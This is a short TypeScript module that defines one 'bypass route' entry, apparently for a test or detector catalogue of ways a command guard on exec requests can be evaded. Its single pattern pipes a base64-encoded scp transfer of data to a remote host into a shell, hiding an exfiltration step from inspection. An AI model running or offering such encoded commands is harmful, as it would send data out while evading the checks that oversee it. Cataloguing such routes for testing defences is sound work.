import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: decoded into a shell',
  source: 'commands of one exec request',
  words: ['echo B64(scp DATA host:) | base64 -d | sh'],
};
